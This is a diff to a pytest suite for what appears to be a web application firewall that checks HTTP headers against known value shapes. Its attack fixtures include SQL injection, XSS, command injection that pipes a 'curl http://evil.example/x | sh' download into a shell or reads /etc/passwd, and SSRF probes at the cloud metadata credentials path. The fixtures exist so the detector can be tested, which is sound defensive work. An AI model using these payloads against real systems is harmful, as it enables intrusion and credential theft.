@@ -37,6 +37,29 @@ REAL_VALUES = [
     ("cloudfront-is-mobile-viewer", "false"),
     ("x-forwarded-proto", "https"),
     ("x-forwarded-port", "443"),
+    # Chromium's client hints and fetch metadata, on every request of a Chromium browser.
+    ("sec-ch-ua", '" Not A;Brand";v="99", "Chromium";v="102", "Google Chrome";v="102"'),
+    ("sec-ch-ua", '"Microsoft Edge";v="131", "Chromium";v="131", "Not_A Brand";v="24"'),
+    ("sec-ch-ua", '"Chromium";v="116", "Not)A;Brand";v="24", "Google Chrome";v="116"'),
+    ("sec-ch-ua", '"Opera";v="106", "Not.A/Brand";v="8", "Chromium";v="120"'),
+    ("sec-ch-ua-full-version-list", '"Not_A Brand";v="8.0.0.0", "Chromium";v="120.0.6099.130"'),
+    ("sec-ch-ua-mobile", "?0"),
+    ("sec-ch-ua-platform", '"macOS"'),
+    ("sec-ch-ua-platform", '"Chrome OS"'),
+    ("sec-ch-ua-platform-version", '"15.0.0"'),
+    ("sec-fetch-mode", "navigate"),
+    ("sec-fetch-site", "same-origin"),
+    ("sec-fetch-user", "?1"),
+    ("sec-fetch-dest", "document"),
+    ("upgrade-insecure-requests", "1"),
+    ("cache-control", "max-age=0"),
+    ("cache-control", "no-cache, no-store"),
+    ("pragma", "no-cache"),
+    ("priority", "u=0, i"),
+    ("connection", "keep-alive"),
+    ("x-amzn-tls-version", "TLSv1.3"),
+    ("x-amzn-tls-cipher-suite", "ECDHE-RSA-AES128-GCM-SHA256"),
+    ("x-amzn-tls-cipher-suite", "TLS_AES_128_GCM_SHA256"),
 ]
 
 # Values whose shape rules some families out, not all (``Shape.rules_out``).
@@ -69,6 +92,18 @@ def test_real_values_fit_a_shape_that_rules_some_families_out(name: str, value: 
     assert "ssrf" not in shape.rules_out and "deser" not in shape.rules_out
 
 
+def test_a_client_address_list_leaves_only_ssrf() -> None:
+    shape = fitting("headers.x-forwarded-for", "203.0.113.10, 2001:db8::1, 130.176.0.1")
+    assert shape is not None and shape.rules_out is not None
+    assert "ssrf" not in shape.rules_out and {"sqli", "cmdi", "deser"} <= shape.rules_out
+    assert fitting("headers.x-forwarded-for", "10.0.0.1, evil.example") is None
+
+
+def test_a_browser_this_list_lacks_is_inspected_not_skipped() -> None:
+    assert fitting("headers.sec-ch-ua", '"Some New Browser";v="1"') is None
+    assert fitting("headers.sec-ch-ua-platform", '"Plan 9"') is None
+
+
 @pytest.mark.parametrize(("name", "value"), REAL_VALUES)
 def test_real_values_fit_their_header(name: str, value: str) -> None:
     assert fits(f"headers.{name}", value)
@@ -95,6 +130,13 @@ ATTACKS = [
     ("referer", "https://shop.example.com/?q=<script>alert(1)</script>", "xss"),
     ("referer", "https://shop.example.com/?a=1&b=$(id)", "cmdi"),
     ("referer", "https://shop.example.com/%2e%2e/%2e%2e/etc/passwd", "path"),
+    ("sec-ch-ua", '"x" or 1=1 or "";v="1"', "sqli"),
+    ("sec-ch-ua", '"Chromium";v="1"; curl http://evil.example/x | sh', "cmdi"),
+    ("sec-ch-ua-platform", '"Linux"; cat /etc/passwd', "cmdi"),
+    ("sec-fetch-dest", "<script>alert(1)</script>", "xss"),
+    ("cache-control", "max-age=0' UNION SELECT password FROM users--", "sqli"),
+    ("x-amzn-tls-cipher-suite", "ECDHE-RSA;id", "cmdi"),
+    ("x-forwarded-for", "1.2.3.4' OR '1'='1", "sqli"),
 ]
 
 
@@ -132,6 +174,7 @@ def test_a_fitting_header_is_no_view_but_its_base64_decoding_is() -> None:
         ("host", "169.254.169.254"),
         ("referer", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
         ("origin", "http://localhost:2773"),
+        ("x-forwarded-for", "169.254.169.254"),
     ],
 )
 def test_a_family_the_shape_does_not_rule_out_still_looks_at_a_fitting_value(name: str, value: str) -> None:
@@ -229,3 +272,17 @@ def test_without_the_gate_the_kept_families_prefilters_decide_alone(monkeypatch:
     assert ("headers.user-agent", CHROME) not in with_gate
     assert ("headers.host", "169.254.169.254") in with_gate  # SSRF's prefilter matches it
     assert [(f.attack, f.location) for f in plain.inspect(event).findings] == [("ssrf", "headers.host")]
+
+
+def test_an_alb_multi_value_header_map_is_judged_by_the_same_shapes() -> None:
+    # An ALB with multi-value headers on sends no "headers" map: its one-value lists are a flat map.
+    event = {"requestContext": {"elb": {"targetGroupArn": "arn:aws:elasticloadbalancing:eu-west-1:1:targetgroup/t/1"}},
+             "httpMethod": "GET", "path": "/", "body": "", "isBase64Encoded": False,
+             "multiValueHeaders": {"Accept": ["text/html"], "User-Agent": [CHROME], "X-Note": ["a", "b"],
+                                   "X-Forwarded-For": ["169.254.169.254"]}}
+    views = views_scanned(Firewall(), event)
+    assert ("multiValueHeaders.accept", "text/html") not in views
+    assert ("multiValueHeaders.user-agent", CHROME) not in views
+    assert ("multiValueHeaders.x-forwarded-for", "169.254.169.254") in views
+    findings = Firewall().inspect(event).findings
+    assert [(f.attack, f.location) for f in findings] == [("ssrf", "multiValueHeaders.x-forwarded-for")]
